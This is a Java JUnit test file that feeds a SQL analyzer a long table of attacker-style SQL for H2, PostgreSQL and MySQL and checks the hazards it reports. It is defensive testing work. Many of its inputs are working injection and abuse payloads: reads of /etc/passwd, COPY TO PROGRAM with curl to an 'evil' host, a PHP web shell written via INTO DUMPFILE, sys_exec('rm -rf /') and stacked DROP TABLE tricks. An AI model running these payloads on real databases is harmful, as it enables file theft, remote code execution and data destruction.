package dev.governance.jdbc.sql;

import static dev.governance.jdbc.sql.Case.any;
import static dev.governance.jdbc.sql.Case.h2;
import static dev.governance.jdbc.sql.Case.my;
import static dev.governance.jdbc.sql.Case.pg;
import static dev.governance.jdbc.sql.Hazard.CODE_LOADING;
import static dev.governance.jdbc.sql.Hazard.DATABASE_ADMINISTRATION;
import static dev.governance.jdbc.sql.Hazard.DYNAMIC_SQL;
import static dev.governance.jdbc.sql.Hazard.IDENTITY_SWITCH;
import static dev.governance.jdbc.sql.Hazard.NETWORK_LINK;
import static dev.governance.jdbc.sql.Hazard.PROGRAM_EXECUTION;
import static dev.governance.jdbc.sql.Hazard.SERVER_FILE;
import static dev.governance.jdbc.sql.Hazard.SESSION_CONTROL;
import static dev.governance.jdbc.sql.Hazard.SYSTEM_CONFIGURATION;
import static dev.governance.jdbc.sql.Hazard.USER_MANAGEMENT;
import static dev.governance.jdbc.sql.StatementType.ALTER;
import static dev.governance.jdbc.sql.StatementType.CALL;
import static dev.governance.jdbc.sql.StatementType.CREATE;
import static dev.governance.jdbc.sql.StatementType.DELETE;
import static dev.governance.jdbc.sql.StatementType.DROP;
import static dev.governance.jdbc.sql.StatementType.GRANT;
import static dev.governance.jdbc.sql.StatementType.INSERT;
import static dev.governance.jdbc.sql.StatementType.MERGE;
import static dev.governance.jdbc.sql.StatementType.OTHER;
import static dev.governance.jdbc.sql.StatementType.REVOKE;
import static dev.governance.jdbc.sql.StatementType.SELECT;
import static dev.governance.jdbc.sql.StatementType.TRUNCATE;
import static dev.governance.jdbc.sql.StatementType.UPDATE;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What an attacker would send, and the facts the analyzer must report for it. One analyzer for the whole
 * table, so cases also run against each other's cached shapes.
 */
class SqlAnalyzerAttackTest {

    static final SqlAnalyzer ANALYZER = new SqlAnalyzer();

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("attacks")
    void attack(Case c) {
        c.check(ANALYZER);
    }

    static Stream<Case> attacks() {
        return Stream.of(
                // ---- case and quoting tricks
                h2("DrOp TaBlE Users").type(DROP).kind(ObjectKind.TABLE).written("public.users"),
                pg("drop table \"public\".\"Users\"").type(DROP).written("public.users"),
                my("DROP TABLE `db`.`Users`").type(DROP).written("db.users"),
                pg("DELETE FROM \"Orders\"").type(DELETE).written("public.orders").unbounded(),
                pg("dElEtE fRoM orders").type(DELETE).written("public.orders").unbounded(),
                my("TRUNCATE `orders`").type(TRUNCATE).written("orders").unbounded(),
                pg("TRUNCATE a, b CASCADE").type(TRUNCATE).written("public.a", "public.b").unbounded(),
                h2("UPDATE \"PUBLIC\".\"USERS\" SET \"ID\" = 1 WHERE name = 'x'").type(UPDATE)
                        .written("public.users").updated("public.users.id"),
                pg("UPDATE users SET id = 2 WHERE id = 1").type(UPDATE).updated("public.users.id"),
                pg("update public.users u set id = id + 1 where u.email = 'a'").type(UPDATE).updated("public.users.id"),
                my("UPDATE users SET users.id = 5 WHERE name = 'x'").type(UPDATE).updated("users.id"),
                pg("INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2").type(INSERT)
                        .written("public.users").updated("public.users.id"),
                my("INSERT INTO users (id) VALUES (1) ON DUPLICATE KEY UPDATE id = 2").type(INSERT)
                        .written("users").updated("users.id"),
                pg("UPDATE t SET a = s.a FROM s WHERE t.id = s.id").type(UPDATE).updated("public.t.a")
                        .written("public.t").read("public.s"),

                // ---- comments in every position
                pg("DROP/**/TABLE t").type(DROP).written("public.t"),
                pg("DROP/* x */TABLE/* y */t").type(DROP).written("public.t"),
                pg("/* leading */ DELETE FROM t").type(DELETE).unbounded(),
                pg("DELETE FROM t -- WHERE id = 1").type(DELETE).unbounded(),
                pg("SELECT 1 -- harmless\n; DROP TABLE t").statements(2).at(1).type(DROP).written("public.t"),
                my("SELECT 1 # comment\n; DELETE FROM t").statements(2).at(1).type(DELETE).unbounded(),
                h2("SELECT 1 // comment\n; DROP TABLE t").statements(2).at(1).type(DROP),
                my("/*! DROP TABLE x */").type(DROP).written("x"),
                my("/*!50001 DROP TABLE x */").type(DROP).written("x"),
                my("/*M!100101 DROP TABLE x */").type(DROP).written("x"),
                my("/*M! DROP TABLE x */").type(DROP).written("x"),
                my("SELECT 1 /*!; DROP TABLE x */").statements(2).at(1).type(DROP),
                my("DELETE FROM t WHERE id = 5 /*! OR 1=1 */").type(DELETE).unbounded(),
                any("DELETE FROM t WHERE id = 5 /*!OR 1=1*/").type(DELETE).unbounded(),
                my("DELETE FROM t WHERE id = 5 --1 OR 1=1").type(DELETE).unbounded(),
                my("DELETE FROM t WHERE id = 5 /* /* */ OR 1=1").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id = 5 /* nested /* comment */ OR 1=1 */").type(DELETE),
                pg("DELETE FROM t WHERE id = 5 /* /* */ OR 1=1").type(DELETE).unparseable(),
                pg("SELECT $a$ $$ ; $a$; DROP TABLE t").statements(2).at(1).type(DROP),
                pg("SELECT '\\'; DROP TABLE t; --'").statements(2).at(1).type(DROP),
                pg("SELECT E'\\'; DROP TABLE t; --'").type(SELECT),
                my("SELECT '\\'; DROP TABLE t; -- '").type(SELECT).unparseable(),
                my("SELECT \"a\\\"; DROP TABLE t; -- \"").type(SELECT).unparseable(),
                my("DELETE FROM t WHERE a = 'x\\' OR 1=1 -- '").type(DELETE).unparseable(),
                pg("SELECT 'abc").type(SELECT).unparseable(),
                pg("DELETE FROM t WHERE a = 'x").type(DELETE).unparseable(),

                // ---- several statements in one text
                pg("SELECT 1; DROP TABLE t").statements(2).at(1).type(DROP),
                pg("SELECT * FROM t;DELETE FROM t").statements(2).at(1).type(DELETE).unbounded(),
                h2("select 1;;drop table t;").statements(2).at(1).type(DROP),
                my("SELECT 1; SET GLOBAL general_log = 'ON'").statements(2).at(1).type(OTHER)
                        .hazards(SYSTEM_CONFIGURATION),
                pg("SELECT 1; COPY t FROM PROGRAM 'id'").statements(2).at(1).type(OTHER)
                        .hazards(PROGRAM_EXECUTION).unparseable(),

                // ---- no WHERE, or an always-true one
                pg("DELETE FROM t").type(DELETE).unbounded(),
                pg("UPDATE t SET a = 1").type(UPDATE).unbounded(),
                pg("DELETE FROM t WHERE 1=1").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE TRUE").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE 'a'='a'").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE 2>1").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE NOT FALSE").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id = 5 OR 1=1").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE 1=1 AND 2=2").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE NOT (1=0)").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id = id").type(DELETE).unbounded(),
                pg("UPDATE t SET a = 1 WHERE t.id = t.id").type(UPDATE).unbounded(),
                pg("DELETE FROM t WHERE 1 <> 2").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE 1 IN (1, 2)").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE 5 BETWEEN 1 AND 10").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE name LIKE '%'").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE 'abc' LIKE 'a%'").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE NULL IS NULL").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE 1 + 1 = 2").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE -1 < 0").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE (((1 = 1)))").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE lower('A') = 'a'").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE 'a' || 'b' = 'ab'").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE TRUE IS TRUE").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE 1 = 1 OR id = 5").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE now() > '2000-01-01'").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE EXISTS (SELECT 1)").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id IS NOT DISTINCT FROM id").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE COALESCE(NULL, 1) = 1").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE 1 = 1.0").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id > 0 OR 'x' = 'x'").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id IS NULL OR id IS NOT NULL").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id = 5 OR id <> 5").type(DELETE).unbounded(),
                pg("UPDATE t SET a = 1 WHERE (amount < 100) OR (amount >= 100)").type(UPDATE).unbounded(),
                pg("DELETE FROM t WHERE NOT id <> id").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE CASE WHEN 1 = 1 THEN TRUE END").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id = 5 OR EXISTS (SELECT 1)").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id = 5 OR (SELECT 1) = 1").type(DELETE).unbounded(),
                my("DELETE FROM t WHERE 1").type(DELETE).unbounded(),
                my("UPDATE t SET a = 1 WHERE 'a' = 'A'").type(UPDATE).unbounded(),
                my("DELETE FROM t WHERE 'a ' = 'a'").type(DELETE).unbounded(),
                my("DELETE FROM t WHERE '1' = 1").type(DELETE).unbounded(),
                my("DELETE FROM t WHERE 1 = 1 LIMIT 1000000").type(DELETE).unbounded(),
                h2("DELETE FROM t WHERE CAST(1 AS INT) = 1").type(DELETE).unbounded(),
                pg("UPDATE t SET a = 1 WHERE ? = ?").bind(1, 1).type(UPDATE).unbounded(),
                pg("DELETE FROM t WHERE ? = ?").bind("x", "x").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id = ? OR ? = 1").bind(5, 1).type(DELETE).unbounded(),
                h2("DELETE FROM t WHERE ?1 = ?1").bind(7).type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE $1 = $2").bind(3, 3).type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE ?").bind(true).type(DELETE).unbounded(),
                h2("DELETE FROM t WHERE 'abc' REGEXP 'a'").type(DELETE).unbounded(),
                my("DELETE FROM t WHERE 'ABC' REGEXP 'a' AND id > 0 OR 'x' RLIKE '^x$'").type(DELETE).unbounded(),
                my("DELETE FROM t WHERE 'abc' NOT REGEXP 'z'").type(DELETE).unbounded(),
                h2("DELETE FROM t WHERE REGEXP_LIKE('abc', 'a')").type(DELETE).unbounded(),
                h2("DELETE FROM t WHERE id = 1 OR REGEXP_LIKE('abc', '^A', 'i')").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id = 1 OR 'abc' ~ 'b'").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id = 1 OR 'abc' !~ 'z'").type(DELETE).unbounded(),
                h2("DELETE FROM t WHERE CASE WHEN id = 1 THEN TRUE ELSE TRUE END").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE CASE WHEN id = 1 THEN 1 = 1 WHEN id = 2 THEN TRUE ELSE 'a' = 'a' END")
                        .type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE CASE id WHEN 1 THEN TRUE ELSE TRUE END").type(DELETE).unbounded(),
                h2("DELETE FROM t WHERE COALESCE(id, 1) = COALESCE(id, 1)").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE lower(name) = LOWER(NAME)").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id = 1 OR abs(id - 3) >= abs(id - 3)").type(DELETE).unbounded(),
                h2("DELETE FROM t WHERE id = 1 OR NOT id = 1").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE NOT (id = 1 AND x = 2) OR (id = 1 AND x = 2)").type(DELETE).unbounded(),
                h2("UPDATE t SET status = 'x' WHERE id = id + 0").type(UPDATE).unbounded(),
                pg("UPDATE t SET a = 1 WHERE id * 1 = id").type(UPDATE).unbounded(),
                pg("DELETE FROM t WHERE (id + 0) * 1 = 0 + id - 0").type(DELETE).unbounded(),
                pg("DELETE FROM t WHERE id = 5 OR NOT (id = 5)").type(DELETE).unbounded(),
                h2("DELETE FROM orders WHERE id IN (SELECT id FROM orders)").type(DELETE).unbounded(),
                pg("DELETE FROM public.orders o WHERE o.id IN (SELECT DISTINCT x.id FROM public.orders x)")
                        .type(DELETE).unbounded(),
                pg("UPDATE t SET a = 1 WHERE id = 5 OR id IN ((SELECT id FROM t))").type(UPDATE).unbounded(),
                pg("DELETE FROM t WHERE id = 5 OR NOT id NOT IN (SELECT id FROM t)").type(DELETE).unbounded(),

                // ---- writes hidden in CTEs and subqueries; CTE names shadowing real tables
                pg("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d").type(DELETE)
                        .written("public.users").unbounded(),
                pg("WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM u").type(UPDATE)
                        .written("public.accounts").updated("public.accounts.balance").unbounded(),
                pg("WITH i AS (INSERT INTO audit_log (a) VALUES (1) RETURNING *) SELECT * FROM i").type(INSERT)
                        .written("public.audit_log"),
                pg("WITH d AS (DELETE FROM t WHERE id = 5 RETURNING *) SELECT * FROM d").type(DELETE)
                        .written("public.t"),
                pg("WITH d AS (DELETE FROM t WHERE 1=1 RETURNING *) INSERT INTO archive SELECT * FROM d")
                        .type(DELETE).written("public.t", "public.archive").unbounded(),
                pg("WITH x AS (SELECT 1) DELETE FROM t").type(DELETE).written("public.t").unbounded(),
                pg("WITH users AS (SELECT 1 AS id) DELETE FROM users").type(DELETE).written("public.users").unbounded(),
                pg("WITH users AS (SELECT * FROM users) SELECT * FROM users").type(SELECT).read("public.users"),
                pg("WITH secrets AS (SELECT * FROM api_keys) SELECT * FROM secrets").type(SELECT)
                        .read("public.api_keys"),
                pg("WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b").type(SELECT)
                        .read("public.b"),
                // H2 reads the real table when one has the CTE's name: both count
                h2("WITH api_keys AS (SELECT id, status AS k FROM orders) SELECT k FROM api_keys").type(SELECT)
                        .read("public.orders", "public.api_keys"),
                h2("WITH secrets AS (SELECT * FROM t) SELECT * FROM (SELECT * FROM secrets) q").type(SELECT)
                        .read("public.t", "public.secrets"),
                any("WITH api_keys AS (SELECT * FROM t) SELECT * FROM api_keys").type(SELECT)
                        .read("t", "api_keys"),
                pg("SELECT * FROM (SELECT * FROM secret_tokens) s").type(SELECT).read("public.secret_tokens"),
                my("SET @k = (SELECT k FROM api_keys LIMIT 1)").type(StatementType.SET).read("api_keys"),
                h2("SET @k = (SELECT MAX(k) FROM vault.api_keys)").type(StatementType.SET).read("vault.api_keys"),
                pg("SELECT * FROM t WHERE id IN (SELECT user_id FROM api_keys)").type(SELECT)
                        .read("public.t", "public.api_keys"),
                pg("SELECT * FROM t WHERE EXISTS (WITH k AS (SELECT * FROM credentials) SELECT 1 FROM k)")
                        .type(SELECT).read("public.t", "public.credentials"),
                pg("UPDATE t SET a = (SELECT max(x) FROM s) WHERE id = 1").type(UPDATE).written("public.t")
                        .read("public.s"),

                // ---- UPDATE ... FROM, DELETE ... USING, MERGE that restrict nothing
                pg("UPDATE t SET a = 1 FROM s WHERE s.x = 1").type(UPDATE).unbounded(),
                pg("DELETE FROM t USING s WHERE s.flag = true").type(DELETE).unbounded(),
                pg("UPDATE t SET a = 1 FROM s WHERE t.id = t.id").type(UPDATE).unbounded(),
                pg("MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET a = 1").type(MERGE)
                        .written("public.t").updated("public.t.a").unbounded(),
                pg("MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE").type(MERGE).unbounded(),
                pg("MERGE INTO t USING s ON s.id = 1 WHEN MATCHED THEN DELETE").type(MERGE).unbounded(),
                pg("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a").type(MERGE)
                        .updated("public.t.a"),

                // ---- H2 dangerous functions and commands
                h2("SELECT * FROM CSVREAD('/etc/passwd')").type(OTHER).hazards(SERVER_FILE),
                h2("CALL CSVWRITE('/tmp/x.csv', 'SELECT * FROM users')").type(OTHER).hazards(SERVER_FILE),
                h2("SELECT FILE_READ('/etc/passwd')").type(OTHER).hazards(SERVER_FILE),
                h2("SELECT FILE_WRITE('x', '/tmp/x')").type(OTHER).hazards(SERVER_FILE),
                h2("select \"FILE_READ\"('/etc/passwd')").type(OTHER).hazards(SERVER_FILE),
                h2("SELECT PUBLIC.FILE_READ('/etc/passwd')").type(OTHER).hazards(SERVER_FILE),
                h2("SELECT * FROM t WHERE id = (SELECT LENGTH(FILE_READ('/etc/passwd')))").type(OTHER)
                        .hazards(SERVER_FILE),
                h2("INSERT INTO t SELECT * FROM CSVREAD('/etc/passwd')").type(INSERT).hazards(SERVER_FILE),
                h2("CREATE ALIAS EXEC AS $$ String e(String c) throws Exception { return null; } $$").type(CREATE)
                        .kind(ObjectKind.ALIAS).hazards(CODE_LOADING).unparseable(),
                h2("CREATE ALIAS REV FOR 'org.h2.util.StringUtils.reverse'").type(CREATE).hazards(CODE_LOADING)
                        .unparseable(),
                h2("RUNSCRIPT FROM 'http://evil/x.sql'").type(OTHER).hazards(DATABASE_ADMINISTRATION, SERVER_FILE)
                        .unparseable(),
                h2("SCRIPT TO '/tmp/dump.sql'").type(OTHER).hazards(DATABASE_ADMINISTRATION, SERVER_FILE).unparseable(),
                h2("BACKUP TO '/tmp/backup.zip'").type(OTHER).hazards(DATABASE_ADMINISTRATION, SERVER_FILE)
                        .unparseable(),
                h2("SHUTDOWN").type(OTHER).hazards(DATABASE_ADMINISTRATION).unparseable(),
                h2("SHUTDOWN IMMEDIATELY").type(OTHER).hazards(DATABASE_ADMINISTRATION).unparseable(),
                h2("CALL LINK_SCHEMA('x', '', 'jdbc:h2:tcp://evil/db', 'sa', '', 'PUBLIC')").type(OTHER)
                        .hazards(NETWORK_LINK),
                h2("CREATE LINKED TABLE lt('org.h2.Driver', 'jdbc:h2:tcp://evil/db', 'sa', '', 'T')").type(CREATE)
                        .written("public.lt").hazards(NETWORK_LINK),
                h2("CREATE TRIGGER trg BEFORE INSERT ON x CALL \"com.evil.T\"").type(CREATE).kind(ObjectKind.TRIGGER)
                        .hazards(CODE_LOADING).unparseable(),

                // ---- PostgreSQL dangerous functions and commands
                pg("SELECT pg_read_file('/etc/passwd')").type(OTHER).hazards(SERVER_FILE).functions("pg_read_file"),
                pg("SELECT pg_read_binary_file('/etc/passwd')").type(OTHER).hazards(SERVER_FILE),
                pg("SELECT pg_ls_dir('.')").type(OTHER).hazards(SERVER_FILE),
                pg("SELECT * FROM pg_stat_file('postgresql.conf')").type(OTHER).hazards(SERVER_FILE),
                pg("SELECT lo_import('/etc/passwd')").type(OTHER).hazards(SERVER_FILE),
                pg("SELECT lo_export(16400, '/tmp/x')").type(OTHER).hazards(SERVER_FILE),
                pg("SELECT pg_catalog.pg_read_file('x')").type(OTHER).hazards(SERVER_FILE),
                pg("SELECT \"pg_read_file\"('x')").type(OTHER).hazards(SERVER_FILE),
                pg("SELECT PG_READ_FILE('x')").type(OTHER).hazards(SERVER_FILE),
                pg("SELECT dblink_exec('host=evil', 'DROP TABLE x')").type(OTHER).hazards(NETWORK_LINK),
                pg("SELECT dblink_connect('c', 'host=evil')").type(OTHER).hazards(NETWORK_LINK),
                pg("COPY users TO '/tmp/users.csv'").type(OTHER).hazards(SERVER_FILE).unparseable(),
                pg("COPY users FROM '/tmp/x.csv'").type(OTHER).hazards(SERVER_FILE).written("public.users")
                        .unparseable(),
                pg("COPY (SELECT 1) TO PROGRAM 'curl evil'").type(OTHER).hazards(PROGRAM_EXECUTION).unparseable(),
                pg("COPY users FROM PROGRAM 'id'").type(OTHER).hazards(PROGRAM_EXECUTION).unparseable(),
                pg("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$").type(OTHER).hazards(DYNAMIC_SQL).unparseable(),
                pg("DO LANGUAGE plpgsql 'BEGIN NULL; END'").type(OTHER).hazards(DYNAMIC_SQL).unparseable(),
                pg("SET ROLE postgres").type(OTHER).hazards(IDENTITY_SWITCH),
                pg("SET SESSION AUTHORIZATION postgres").type(OTHER).hazards(IDENTITY_SWITCH),
                pg("SET LOCAL ROLE admin").type(OTHER).hazards(IDENTITY_SWITCH),
                pg("RESET ROLE").type(OTHER).hazards(IDENTITY_SWITCH),
                pg("set role = 'admin'").type(OTHER).hazards(IDENTITY_SWITCH),
                pg("SELECT set_config('role', 'postgres', false)").type(OTHER).hazards(IDENTITY_SWITCH),
                pg("SELECT set_config('session_authorization', 'postgres', false)").type(OTHER)
                        .hazards(IDENTITY_SWITCH),
                pg("SELECT set_config(' ROLE ', 'postgres', false)").type(OTHER).hazards(IDENTITY_SWITCH),
                pg("SELECT set_config(?, 'postgres', false)").bind("role").type(OTHER).hazards(IDENTITY_SWITCH),
                pg("SELECT set_config(?, 'postgres', false)").type(OTHER).hazards(IDENTITY_SWITCH),
                pg("ALTER SYSTEM SET archive_command = 'curl evil'").type(ALTER).hazards(SYSTEM_CONFIGURATION),
                pg("SELECT pg_terminate_backend(1234)").type(OTHER).hazards(SESSION_CONTROL),
                pg("SELECT pg_cancel_backend(pid) FROM pg_stat_activity").type(OTHER).hazards(SESSION_CONTROL),
                pg("SELECT pg_reload_conf()").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                // ---- SET beyond the allow-list of session settings
                pg("SET session_replication_role = replica").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                pg("SET SESSION \"session_replication_role\" TO 'replica'").type(OTHER).hazards(SYSTEM_CONFIGURATION)
                        .unparseable(),
                pg("SET standard_conforming_strings = off").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                pg("SET LOCAL backslash_quote = on").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                pg("SET client_encoding = 'SJIS'").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                pg("SET NAMES 'GBK'").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                pg("SET app.tenant_id = '42'").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                my("SET sql_mode = 'NO_BACKSLASH_ESCAPES'").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                my("SET SESSION sql_mode = CONCAT(@@sql_mode, ',ANSI_QUOTES')").type(OTHER)
                        .hazards(SYSTEM_CONFIGURATION),
                my("SET @@sql_mode = ''").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                my("SET @@session.sql_mode := 'ANSI'").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                my("SET `sql_mode` = ''").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                my("SET @x = 1, time_zone = 'UTC', sql_mode = ''").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                my("SET NAMES gbk").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                my("SET character_set_client = sjis").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                h2("SET REFERENTIAL_INTEGRITY FALSE").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                h2("SET ALLOW_LITERALS NONE").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                h2("SET DATABASE_EVENT_LISTENER 'org.h2.tools.Server'").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                h2("SET EXCLUSIVE 1").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                h2("SET MODE MySQL").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                h2("SET NON_KEYWORDS SELECT").type(OTHER).hazards(SYSTEM_CONFIGURATION).unparseable(),
                any("SET session_replication_role = replica").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                pg("SELECT set_config('session_replication_role', 'replica', false)").type(OTHER)
                        .hazards(SYSTEM_CONFIGURATION),
                pg("SELECT set_config('standard_conforming_strings', 'off', false)").type(OTHER)
                        .hazards(SYSTEM_CONFIGURATION),
                pg("CREATE EXTENSION dblink").type(CREATE).kind(ObjectKind.EXTENSION).hazards(CODE_LOADING)
                        .unparseable(),
                pg("CREATE FUNCTION f() RETURNS int AS 'libc.so', 'system' LANGUAGE c").type(CREATE)
                        .kind(ObjectKind.FUNCTION).hazards(CODE_LOADING),
                pg("CREATE OR REPLACE FUNCTION f() RETURNS text AS $$ import os $$ LANGUAGE plpython3u").type(CREATE)
                        .hazards(CODE_LOADING),
                pg("CREATE LANGUAGE plpythonu").type(CREATE).hazards(CODE_LOADING).unparseable(),
                pg("PREPARE p AS DELETE FROM t").type(OTHER).hazards(DYNAMIC_SQL).unparseable(),
                pg("EXECUTE p").type(OTHER).hazards(DYNAMIC_SQL),
                pg("SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')").type(OTHER)
                        .hazards(DYNAMIC_SQL),
                pg("SELECT table_to_xml('api_keys', true, true, '')").type(OTHER).hazards(DYNAMIC_SQL).read("*.*"),
                pg("SELECT table_to_xml_and_xmlschema('vault.t', true, true, '')").type(OTHER).hazards(DYNAMIC_SQL),
                pg("SELECT schema_to_xml('vault', true, true, '')").type(OTHER).hazards(DYNAMIC_SQL),
                pg("SELECT database_to_xml(true, true, '')").type(OTHER).hazards(DYNAMIC_SQL),
                pg("SELECT pg_catalog.cursor_to_xml('c', 10, true, true, '')").type(OTHER).hazards(DYNAMIC_SQL),
                h2("SELECT CANCEL_SESSION(3)").type(OTHER).hazards(SESSION_CONTROL),
                h2("CALL ABORT_SESSION(3)").type(OTHER).hazards(SESSION_CONTROL),
                pg("CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')").type(CREATE)
                        .hazards(NETWORK_LINK).unparseable(),
                pg("LOAD '/tmp/evil.so'").type(OTHER).hazards(CODE_LOADING).unparseable(),

                // ---- MySQL / MariaDB dangerous functions and commands
                my("SELECT LOAD_FILE('/etc/passwd')").type(OTHER).hazards(SERVER_FILE),
                my("SELECT load_file(0x2f6574632f706173737764)").type(OTHER).hazards(SERVER_FILE),
                my("/*!50000 SELECT LOAD_FILE('/etc/passwd') */").type(OTHER).hazards(SERVER_FILE),
                my("SELECT * FROM users INTO OUTFILE '/tmp/u.txt'").type(OTHER).hazards(SERVER_FILE).unparseable(),
                my("SELECT '<?php system($_GET[c]); ?>' INTO DUMPFILE '/var/www/x.php'").type(OTHER)
                        .hazards(SERVER_FILE).unparseable(),
                my("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t").type(OTHER).hazards(SERVER_FILE)
                        .written("t").unparseable(),
                my("LOAD DATA INFILE '/etc/passwd' INTO TABLE t").type(OTHER).hazards(SERVER_FILE).unparseable(),
                my("PREPARE s FROM 'DROP TABLE t'").type(OTHER).hazards(DYNAMIC_SQL).unparseable(),
                my("EXECUTE s").type(OTHER).hazards(DYNAMIC_SQL),
                my("EXECUTE IMMEDIATE 'DROP TABLE t'").type(OTHER).hazards(DYNAMIC_SQL),
                my("INSTALL PLUGIN evil SONAME 'evil.so'").type(OTHER).hazards(CODE_LOADING).unparseable(),
                my("INSTALL SONAME 'evil'").type(OTHER).hazards(CODE_LOADING).unparseable(),
                my("CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'").type(CREATE)
                        .kind(ObjectKind.FUNCTION).hazards(CODE_LOADING),
                my("KILL 42").type(OTHER).hazards(SESSION_CONTROL).unparseable(),
                my("KILL QUERY 42").type(OTHER).hazards(SESSION_CONTROL).unparseable(),
                my("SET GLOBAL general_log = 'ON'").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                my("SET @@global.general_log_file = '/var/www/x.php'").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                my("SET PERSIST max_connections = 1").type(OTHER).hazards(SYSTEM_CONFIGURATION),
                my("CREATE TABLE f (id INT) ENGINE=FEDERATED CONNECTION='mysql://evil/db/t'").type(CREATE)
                        .written("f").hazards(NETWORK_LINK),
                my("CREATE TABLE f (line TEXT) ENGINE=CONNECT TABLE_TYPE=DOS FILE_NAME='/etc/passwd'").type(CREATE)
                        .hazards(NETWORK_LINK, SERVER_FILE).unparseable(),
                my("SELECT sys_exec('rm -rf /')").type(OTHER).hazards(PROGRAM_EXECUTION),
                my("SELECT sys_eval('id')").type(OTHER).hazards(PROGRAM_EXECUTION),
                my("SET ROLE admin").type(OTHER).hazards(IDENTITY_SWITCH),
                any("SELECT pg_read_file('x'), LOAD_FILE('y'), FILE_READ('z')").type(OTHER).hazards(SERVER_FILE),

                // ---- users, roles, privileges
                pg("CREATE USER evil WITH SUPERUSER PASSWORD 'x'").type(CREATE).kind(ObjectKind.USER)
                        .hazards(USER_MANAGEMENT).unparseable(),
                pg("ALTER ROLE app SUPERUSER").type(ALTER).kind(ObjectKind.ROLE).hazards(USER_MANAGEMENT).unparseable(),
                pg("CREATE ROLE admin").type(CREATE).kind(ObjectKind.ROLE).hazards(USER_MANAGEMENT).unparseable(),
                pg("DROP ROLE app").type(DROP).kind(ObjectKind.ROLE).hazards(USER_MANAGEMENT),
                pg("ALTER USER app WITH PASSWORD 'x'").type(ALTER).kind(ObjectKind.USER).hazards(USER_MANAGEMENT)
                        .unparseable(),
                h2("CREATE USER evil PASSWORD 'x' ADMIN").type(CREATE).kind(ObjectKind.USER).hazards(USER_MANAGEMENT)
                        .unparseable(),
                my("DROP USER 'bob'@'%'").type(DROP).kind(ObjectKind.USER).hazards(USER_MANAGEMENT).unparseable(),
                my("RENAME USER bob TO alice").type(ALTER).kind(ObjectKind.USER).hazards(USER_MANAGEMENT)
                        .unparseable(),
                my("SET PASSWORD FOR root = 'x'").type(OTHER).hazards(USER_MANAGEMENT).unparseable(),
